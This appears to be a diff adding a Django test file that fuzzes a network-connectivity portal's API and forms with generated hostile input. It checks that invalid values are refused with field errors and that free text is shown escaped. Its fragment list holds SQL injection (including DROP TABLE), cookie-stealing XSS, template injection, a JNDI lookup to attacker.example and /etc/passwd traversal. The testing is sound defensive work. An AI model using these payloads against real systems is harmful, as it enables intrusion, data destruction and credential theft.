@@ -1,0 +1,260 @@
+"""Hostile input, generated: SQL and script fragments, template and path tricks, unicode direction
+marks, NUL bytes and very long values, fed to every form and endpoint that takes customer input.
+
+Every strictly-shaped field (GUIDs, Azure names, resource ids, DNS names, IPs, records) must answer
+4xx with a message on that field and store nothing. Free text (comments, token names) may be
+stored, but no page ever shows it unescaped.
+"""
+
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+from django.test import Client
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from connectivity import services
+from connectivity.models import ApiToken, Cluster, Comment, ConnectivityRequest, RequestState, User
+from tests.factories import PeeringRequestFactory
+
+pytestmark = [pytest.mark.django_db, pytest.mark.filterwarnings("ignore:No directory at")]
+
+# Each fragment breaks every strict rule (a quote, an angle bracket, a slash, a brace, a percent,
+# a control or format character, or a length past every limit), so any string containing one is
+# invalid for every strict field, whatever noise surrounds it.
+FRAGMENTS = [
+    "' OR '1'='1",
+    "'; DROP TABLE connectivity_connectivityrequest;--",
+    "\" UNION SELECT password FROM connectivity_user --",
+    "<script>alert(1)</script>",
+    "\"><img src=x onerror=alert(document.cookie)>",
+    "{{ 7*7 }}{% debug %}",
+    "${jndi:ldap://attacker.example/a}",
+    "../../../../etc/passwd",
+    "%00%27%3Cscript%3E",
+    "\x00",
+    "a\x00b",
+    "\u202egnp.exe",
+    "Ω≈ç√∫'\u200b",
+    "A" * 5000,
+    "é" * 400 + "<",
+]
+NOISE = st.text(max_size=8)
+HOSTILE = st.builds(lambda before, fragment, after: before + fragment + after,
+                    NOISE, st.sampled_from(FRAGMENTS), NOISE)
+CHECKS = settings(max_examples=12, deadline=None, derandomize=True,
+                  suppress_health_check=[HealthCheck.function_scoped_fixture,
+                                         HealthCheck.too_slow])
+
+
+def shows_unescaped(html: str, value: str) -> bool:
+    """True when the page carries the string with its markup intact: only escaping removes < >."""
+    return any(ch in value for ch in "<>") and value.strip() in html
+
+
+# --- the API ----------------------------------------------------------------------------------
+
+API_BASE = {
+    "vnet_peering": {"tenant_id": "44444444-4444-4444-8444-444444444444",
+                     "subscription_id": "55555555-5555-4555-8555-555555555555",
+                     "resource_group": "rg-contoso-network", "vnet_name": "vnet-hub"},
+    "private_dns": {"zone_name": "corp.contoso.internal",
+                    "records": [{"name": "db", "ip": "10.20.1.4"}]},
+    "dns_forwarding": {"domain_name": "corp.contoso.com", "dns_servers": ["10.20.0.4"]},
+}
+API_FIELDS = [
+    ("vnet_peering", "tenant_id"), ("vnet_peering", "subscription_id"),
+    ("vnet_peering", "resource_group"), ("vnet_peering", "vnet_name"),
+    ("vnet_peering", "vnet_id"),
+    ("private_dns", "zone_name"), ("private_dns", "records.name"), ("private_dns", "records.ip"),
+    ("dns_forwarding", "domain_name"), ("dns_forwarding", "dns_servers"),
+]
+
+
+def api_payload(cluster: Cluster, kind: str, field: str, value: str) -> dict[str, Any]:
+    payload: dict[str, Any] = {"cluster": cluster.pk, "kind": kind, "submit": False,
+                               **{k: v for k, v in API_BASE[kind].items()}}
+    if field == "records.name":
+        payload["records"] = [{"name": value, "ip": "10.20.1.4"}]
+    elif field == "records.ip":
+        payload["records"] = [{"name": "db", "ip": value}]
+    elif field == "dns_servers":
+        payload["dns_servers"] = [value]
+    elif field == "vnet_id":
+        payload = {k: v for k, v in payload.items()
+                   if k not in ("subscription_id", "resource_group", "vnet_name")}
+        payload["vnet_id"] = value
+    else:
+        payload[field] = value
+    return payload
+
+
+@pytest.mark.parametrize("kind, field", API_FIELDS)
+@CHECKS
+@given(value=HOSTILE)
+def test_api_refuses_hostile_values_with_a_field_message(
+    customer: User, dedicated_cluster: Cluster, kind: str, field: str, value: str
+) -> None:
+    client = Client()
+    client.force_login(customer)
+    before = ConnectivityRequest.objects.count()
+    response = client.post("/api/v1/requests/", api_payload(dedicated_cluster, kind, field, value),
+                           content_type="application/json")
+    assert response.status_code == 400, (value, response.content[:500])
+    errors = response.json().get("errors", {})
+    root = field.split(".")[0]
+    assert any(key.split(".")[0] == root for key in errors), (field, errors)
+    assert all(messages for messages in errors.values())
+    assert ConnectivityRequest.objects.count() == before
+
+
+@CHECKS
+@given(value=HOSTILE)
+def test_api_comment_is_refused_or_stored_as_text(
+    customer: User, dedicated_cluster: Cluster, value: str
+) -> None:
+    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.AWAITING_GRANT)
+    client = Client()
+    client.force_login(customer)
+    response = client.post(f"/api/v1/requests/{req.pk}/comments/", {"body": value},
+                           content_type="application/json")
+    assert response.status_code in (201, 400), response.content[:500]
+    if response.status_code == 400:
+        assert "body" in response.json()["errors"]
+        assert not req.comments.exists()
+        return
+    assert response["Content-Type"].startswith("application/json")
+    page = client.get(f"/requests/{req.pk}/").content.decode()
+    assert not shows_unescaped(page, value)
+
+
+# --- the portal's forms -------------------------------------------------------------------------
+
+PORTAL_BASE = {
+    "vnet_peering": {"vnet_peering-tenant_id": "44444444-4444-4444-8444-444444444444",
+                     "vnet_peering-subscription_id": "55555555-5555-4555-8555-555555555555",
+                     "vnet_peering-resource_group": "rg-contoso-network",
+                     "vnet_peering-vnet_name": "vnet-hub"},
+    "private_dns": {"private_dns-zone_name": "corp.contoso.internal",
+                    "private_dns-records": "db 10.20.1.4"},
+    "dns_forwarding": {"dns_forwarding-domain_name": "corp.contoso.com",
+                       "dns_forwarding-dns_servers": "10.20.0.4"},
+}
+PORTAL_FIELDS = [
+    ("vnet_peering", "tenant_id"), ("vnet_peering", "subscription_id"),
+    ("vnet_peering", "resource_group"), ("vnet_peering", "vnet_name"),
+    ("vnet_peering", "vnet_resource_id"),
+    ("private_dns", "zone_name"), ("private_dns", "records"),
+    ("dns_forwarding", "domain_name"), ("dns_forwarding", "dns_servers"),
+]
+
+
+@pytest.mark.parametrize("kind, field", PORTAL_FIELDS)
+@CHECKS
+@given(value=HOSTILE)
+def test_wizard_refuses_hostile_values_with_a_field_message(
+    customer: User, dedicated_cluster: Cluster, kind: str, field: str, value: str
+) -> None:
+    client = Client()
+    client.force_login(customer)
+    before = ConnectivityRequest.objects.count()
+    data = {"cluster": str(dedicated_cluster.pk), "kind": kind, **PORTAL_BASE[kind],
+            f"{kind}-{field}": value}
+    if field == "records":
+        data[f"{kind}-{field}"] = f"{value} 10.20.1.4"
+    response = client.post("/requests/new/", data)
+    assert response.status_code == 400, (value, response.status_code)
+    form = response.context["kind_forms"][kind]
+    assert form.errors.get(field), (field, form.errors)
+    assert ConnectivityRequest.objects.count() == before
+    assert not shows_unescaped(response.content.decode(), value)
+
+
+@pytest.mark.parametrize("kind, field", PORTAL_FIELDS)
+@CHECKS
+@given(value=HOSTILE)
+def test_inline_validation_names_the_rule(
+    customer: User, kind: str, field: str, value: str
+) -> None:
+    client = Client()
+    client.force_login(customer)
+    response = client.post("/requests/new/validate/",
+                           {"field": f"{kind}-{field}", f"{kind}-{field}": value})
+    assert response.status_code == 200
+    assert response.json()["errors"], value
+
+
+@CHECKS
+@given(value=HOSTILE)
+def test_portal_comment_is_refused_or_shown_escaped(
+    customer: User, dedicated_cluster: Cluster, value: str
+) -> None:
+    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.AWAITING_GRANT)
+    client = Client(HTTP_ACCEPT="application/json")
+    client.force_login(customer)
+    response = client.post(f"/requests/{req.pk}/comments/", {"body": value})
+    assert response.status_code < 500
+    stored = Comment.objects.filter(request=req).first()
+    if stored is None:
+        assert response.status_code >= 400 or response.status_code in (302, 303)
+        return
+    assert "\x00" not in stored.body
+    page = Client()
+    page.force_login(customer)
+    html = page.get(f"/requests/{req.pk}/").content.decode()
+    assert not shows_unescaped(html, value)
+
+
+@CHECKS
+@given(value=HOSTILE)
+def test_token_name_is_refused_or_shown_escaped(customer: User, value: str) -> None:
+    client = Client()
+    client.force_login(customer)
+    before = ApiToken.objects.count()
+    response = client.post("/api/tokens/", {"name": value, "scope": "read", "expires": "90"})
+    assert response.status_code < 500
+    if ApiToken.objects.count() == before:
+        assert response.status_code == 400
+        assert response.context["form"].errors.get("name"), value
+    html = client.get("/api/tokens/").content.decode()
+    assert not shows_unescaped(html, value)
+    assert not shows_unescaped(response.content.decode(), value)
+
+
+@CHECKS
+@given(value=HOSTILE)
+def test_reject_reason_reaches_the_customer_escaped(
+    customer: User, approver: User, dedicated_cluster: Cluster, value: str
+) -> None:
+    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.PENDING_APPROVAL)
+    try:
+        services.request_reject(request=req, actor=approver, reason=value)
+    except Exception as exc:  # refusing the reason is fine; crashing on it is not
+        assert exc.__class__.__name__ == "ValidationError", exc
+        return
+    client = Client()
+    client.force_login(customer)
+    html = client.get(f"/requests/{req.pk}/").content.decode()
+    assert not shows_unescaped(html, value)
+
+
+def test_a_script_in_a_comment_is_shown_as_text(customer: User, dedicated_cluster: Cluster) -> None:
+    """The generated checks above are only worth something if the page shows the text at all."""
+    req = PeeringRequestFactory(cluster=dedicated_cluster, state=RequestState.AWAITING_GRANT)
+    client = Client()
+    client.force_login(customer)
+    client.post(f"/requests/{req.pk}/comments/", {"body": "<script>alert(1)</script>"})
+    html = client.get(f"/requests/{req.pk}/").content.decode()
+    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
+    assert "<script>alert(1)</script>" not in html
+
+
+def test_a_script_in_a_token_name_is_shown_as_text(customer: User) -> None:
+    client = Client()
+    client.force_login(customer)
+    client.post("/api/tokens/", {"name": "<b>bold</b> token", "scope": "read", "expires": "90"})
+    html = client.get("/api/tokens/").content.decode()
+    assert "&lt;b&gt;bold&lt;/b&gt; token" in html
+    assert "<b>bold</b>" not in html
